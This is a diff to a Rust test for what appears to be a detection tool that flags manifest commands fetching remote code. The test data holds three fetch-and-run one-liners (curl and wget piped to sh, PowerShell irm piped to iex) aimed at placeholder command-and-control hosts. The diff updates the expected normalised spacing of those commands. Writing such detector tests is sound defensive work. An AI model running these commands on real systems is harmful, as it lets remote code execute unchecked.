@@ -84,14 +84,26 @@ fn a_place_is_told_once_and_the_rest_is_counted() {
 
 #[test]
 fn a_command_of_the_manifest_is_told_as_a_whole() {
-    for (command, host) in [
-        ("curl -s https://c2.invalid/a | sh", "c2.invalid"),
-        ("irm c2.invalid/install.ps1|iex", "c2.invalid"),
-        ("wget -qO- files.c2.invalid/x|sh", "files.c2.invalid"),
+    for (command, told, host) in [
+        (
+            "curl -s https://c2.invalid/a | sh",
+            "curl -s https://c2.invalid/a | sh",
+            "c2.invalid",
+        ),
+        (
+            "irm c2.invalid/install.ps1|iex",
+            "irm c2.invalid/install.ps1 | iex",
+            "c2.invalid",
+        ),
+        (
+            "wget -qO- files.c2.invalid/x|sh",
+            "wget -qO- files.c2.invalid/x | sh",
+            "files.c2.invalid",
+        ),
     ] {
         let facts = run(&[], &[command], &[]);
         let flow = facts.flows.first().expect(command);
-        assert_eq!(flow.sink_place.snippet, command);
+        assert_eq!(flow.sink_place.snippet, told);
         assert_eq!(flow.source, SourceKind::Fetched, "{command}");
         assert!(flow.source_detail.ends_with(host), "{flow:?}");
         assert!(facts.hosts.iter().any(|it| it.host == host), "{facts:?}");
